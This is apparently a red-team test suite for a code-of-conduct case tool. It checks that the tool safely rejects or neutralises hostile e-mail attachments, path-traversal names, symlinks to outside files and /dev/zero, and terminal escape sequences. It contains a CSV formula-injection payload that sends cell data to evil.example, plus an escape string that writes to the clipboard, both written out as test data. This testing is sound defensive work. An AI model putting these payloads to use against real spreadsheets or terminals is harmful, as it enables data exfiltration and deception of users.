/** Red-team attacks on coc's intake (a hostile e-mail) and its public text (the register as CSV). */
import { execFileSync, spawnSync } from "node:child_process";
import { rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { World, hasAgeCli, reportYaml, teamRepo, type Person } from "../helpers/env.js";

let world: World;
let alice: Person;
let bob: Person;
let repo: string;

beforeEach(async () => {
  world = new World();
  [alice, bob] = [world.person("alice"), world.person("bob")];
  repo = await teamRepo(world, [alice, bob]);
});
afterEach(() => world.cleanup());

const commits = () => execFileSync("git", ["-C", repo, "rev-list", "--count", "HEAD"], { encoding: "utf8" }).trim();

function eml(parts: { name?: string; type: string; body: string }[]): string {
  return [
    "From: Robin <robin@example.net>",
    "To: team@example.org",
    "Subject: At the social",
    "Date: Mon, 01 Jun 2026 09:00:00 +0000",
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="mix-1"',
    "",
    "--mix-1",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Someone kept touching my shoulder.",
    ...parts.flatMap((p) => [
      "--mix-1",
      `Content-Type: ${p.type}${p.name !== undefined ? `; name="${p.name}"` : ""}`,
      ...(p.name !== undefined ? [`Content-Disposition: attachment; filename="${p.name}"`] : ["Content-Disposition: attachment"]),
      "Content-Transfer-Encoding: base64",
      "",
      Buffer.from(p.body, "latin1").toString("base64"),
    ]),
    "--mix-1--",
    "",
  ].join("\r\n");
}

const caseDirs = () => execFileSync("git", ["-C", repo, "ls-tree", "--name-only", "HEAD", "cases/"], { encoding: "utf8" }).trim();

describe.skipIf(!hasAgeCli())("attacks through an e-mail's attachments", () => {
  it("a malformed photo refuses the whole message: one line, exit 1, no report stored without its evidence", async () => {
    const before = commits();
    const r = await world.run(["new-report", "--from-eml", "-", "--no-input"], { as: alice, cwd: repo, stdin: eml([{ name: "photo.jpg", type: "image/jpeg", body: "\xff\xd8\xff\xe1\x00\x40short" }]) });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe("");
    expect(r.stderr.trim().split("\n"), r.stderr).toHaveLength(1);
    expect(r.stderr).toContain("nothing was recorded");
    expect(commits()).toBe(before);
    expect(caseDirs()).toBe("");
  });

  it("a message of thousands of empty parts is refused in one line, not turned into thousands of evidence files", async () => {
    const before = commits();
    const parts = Array.from({ length: 3000 }, (_, i) => ({ name: `f${i}.txt`, type: "text/plain", body: "" }));
    const r = await world.run(["new-report", "--from-eml", "-", "--no-input"], { as: alice, cwd: repo, stdin: eml(parts) });
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split("\n"), r.stderr).toHaveLength(1);
    expect(r.stderr).toContain("3000 attachments");
    expect(commits()).toBe(before);
    expect(caseDirs()).toBe("");
  });

  it("an attachment name that is only a directory gets a made-up name, never an empty one", async () => {
    const r = await world.run(["new-report", "--from-eml", "-", "--no-input"], { as: alice, cwd: repo, stdin: eml([{ name: "../evil/", type: "text/plain", body: "x" }]) });
    expect(r.code, r.stderr).toBe(0);
    const shown = await world.run(["show", r.stdout.trim(), "--json"], { as: alice, cwd: repo });
    const evidence = (JSON.parse(shown.stdout) as { records: { type: string; body: { name: string } }[] }).records.filter((x) => x.type === "evidence");
    expect(evidence.map((e) => e.body.name)).toEqual(["attachment-1.txt"]);
  });
});

describe("attacks on the register as CSV", () => {
  it("a name, contact or handle a report gave that a spreadsheet would run as a formula is written as text", async () => {
    const report = `received_at: 2026-06-01T09:00:00Z
channel: email
reporter: { name: Robin, contact: robin@example.net }
incident:
  summary: At the social
  description: Someone kept touching my shoulder.
  people:
    - { name: '=HYPERLINK("https://evil.example/?"&A3,"Pat")', role: reported, contact: "+1 555 0100", handles: ["@pat", "-2+3"] }
consent: { contact_reported: yes }
`;
    const now = new Date("2026-06-02T10:00:00Z");
    const made = await world.run(["new-report", "--from", "-"], { as: alice, cwd: repo, stdin: report, now });
    expect(made.code, made.stderr).toBe(0);
    const decision = "stage: final\nviolation: \"yes\"\nfinding: touching\nactions:\n  - { level: remove from the event without refund, scope: event }\ndecided_by: [alice, bob]\n";
    const decided = await world.run(["decide", made.stdout.trim(), "--from", "-"], { as: alice, cwd: repo, stdin: decision, now });
    expect(decided.code, decided.stderr).toBe(0);
    const r = await world.run(["bans", "--all", "--format", "csv"], { as: alice, cwd: repo, now });
    expect(r.code, r.stderr).toBe(0);
    const { parse } = await import("csv-parse/sync");
    const rows = parse(r.stdout) as string[][];
    expect(rows).toHaveLength(2);
    expect(rows[1]!.slice(0, 3)).toEqual([`'=HYPERLINK("https://evil.example/?"&A3,"Pat")`, "'+1 555 0100", "'@pat -2+3"]);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("attacks through a pushed template or settings file that is a symbolic link", () => {
  const commitAs = (paths: string[]) => {
    const g = ["-c", "user.name=m", "-c", "user.email=m@x", "-c", "core.hooksPath=/dev/null"];
    world.git(repo, [...g, "add", ...paths]);
    world.git(repo, [...g, "commit", "-qm", "templates"]);
  };

  it("a template linked to a file outside the repository is never read into public text, even once confirmed", async () => {
    const secret = join(world.root, "secret.txt");
    writeFileSync(secret, "OUTSIDE-FILE-MARKER-7731\n");
    rmSync(join(repo, "templates", "transparency.md.hbs"), { force: true });
    symlinkSync(secret, join(repo, "templates", "transparency.md.hbs"));
    commitAs(["templates/transparency.md.hbs"]);
    const trusted = await world.run(["trust", "--yes"], { as: alice, cwd: repo });
    expect(trusted.code, trusted.stderr).toBe(0);
    const r = await world.run(["transparency"], { as: alice, cwd: repo });
    expect(r.stdout + r.stderr).not.toContain("OUTSIDE-FILE-MARKER-7731");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("transparency.md.hbs: a symbolic link");
  });

  it("a template or a settings file linked to /dev/zero gives one line, never a command that reads forever", async () => {
    symlinkSync("/dev/zero", join(repo, "templates", "zz.hbs"));
    commitAs(["templates/zz.hbs"]);
    // Run as a process of its own with a memory cap: before, every command read /dev/zero until it ran out of memory.
    const coc = (args: string[]) =>
      spawnSync("bash", ["-c", 'ulimit -v 4000000; exec "$0" "$@"', process.execPath, join(process.cwd(), "bin", "coc.js"), ...args], {
        cwd: repo,
        env: { ...world.env, COC_IDENTITY: alice.identityFile },
        input: "received_at: 2026-06-01T09:00:00Z\nchannel: email\nreporter: { name: Robin }\nincident: { summary: s, description: d }\n",
        encoding: "utf8",
        timeout: 60_000,
      });
    const listed = coc(["list"]);
    expect(listed.status, listed.stderr).toBe(0);
    const made = coc(["new-report", "--from", "-"]);
    expect(made.status, made.stderr).toBe(0);
    const trusted = coc(["trust", "--yes"]);
    expect(trusted.status, trusted.stderr).toBe(0);
    rmSync(join(repo, "templates", "zz.hbs"));
    rmSync(join(repo, ".coc", "team.yaml"));
    symlinkSync("/dev/zero", join(repo, ".coc", "team.yaml"));
    const config = coc(["list"]);
    expect(config.status, config.stderr).toBe(1);
    expect(config.stderr.trim().split("\n"), config.stderr).toHaveLength(1);
    expect(config.stderr).toContain("symbolic link");
  });
});

describe.skipIf(!hasAgeCli())("attacks on the audit bundle's redaction", () => {
  it("withholds every part of a hyphenated or apostrophed name, typographic apostrophes and the joined name too", async () => {
    const liaison = world.person("liaison");
    const added = await world.run(["oversight", "add", "liaison", liaison.memberKey, "--role", "board-liaison"], { as: alice, cwd: repo, now: new Date("2026-05-01T10:00:00Z") });
    expect(added.code, added.stderr).toBe(0);
    const report = reportYaml("audit").replace("name: Sam Reporter", "name: Jean-Luc O'Neil").replace("contact: sam@example.org", "contact: jl@example.org");
    const made = await world.run(["new-report", "--from", "-"], { as: bob, cwd: repo, stdin: report });
    expect(made.code, made.stderr).toBe(0);
    const code = made.stdout.trim();
    const note = "kind: other\ntext: Jean phoned again; O\u2019Neil (as the mail client types it) and @JeanLucONeil agree; so does Jean\u2011Luc O\u2019Neil.\n";
    expect((await world.run(["note", code, "--from", "-"], { as: bob, cwd: repo, stdin: note })).code).toBe(0);
    expect((await world.run(["escalate", code, "--to", "liaison", "--yes"], { as: bob, cwd: repo })).code).toBe(0);
    const out = join(world.root, "bundle.age");
    const exported = await world.run(["export", "--audit", code, "--to", "liaison", "--out", out], { as: bob, cwd: repo });
    expect(exported.code, exported.stderr).toBe(0);
    const plain = spawnSync("age", ["-d", "-i", liaison.identityFile, out], { env: world.env, encoding: "utf8" });
    expect(plain.status, plain.stderr).toBe(0);
    expect(plain.stdout).toContain("phoned again");
    expect(plain.stdout).not.toMatch(/jean|luc|neil/i);
  });
});

describe.skipIf(!hasAgeCli())("attacks on the terminal through public text", () => {
  it("a sender's name with terminal escapes reaches the letter to the reporter as visible escapes, never as bytes the terminal obeys", async () => {
    const name = "Robin\u001b]52;c;cHduZWQ=\u0007\u001b[2J\u202e";
    const message = [
      `From: =?utf-8?b?${Buffer.from(name).toString("base64")}?= <robin@example.net>`,
      "Subject: At the social",
      "Date: Mon, 01 Jun 2026 09:00:00 +0000",
      "Content-Type: text/plain; charset=utf-8",
      "",
      "Someone kept touching my shoulder.",
      "",
    ].join("\r\n");
    const made = await world.run(["new-report", "--from-eml", "-", "--no-input"], { as: alice, cwd: repo, stdin: message });
    expect(made.code, made.stderr).toBe(0);
    const r = await world.run(["letter", made.stdout.trim(), "--to", "reporter", "--kind", "ack", "--no-sent"], { as: alice, cwd: repo });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain("Robin\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J\\u202e");
    expect(r.stdout + r.stderr).not.toMatch(/[\u001b\u0007\u202e]/);
  });
});
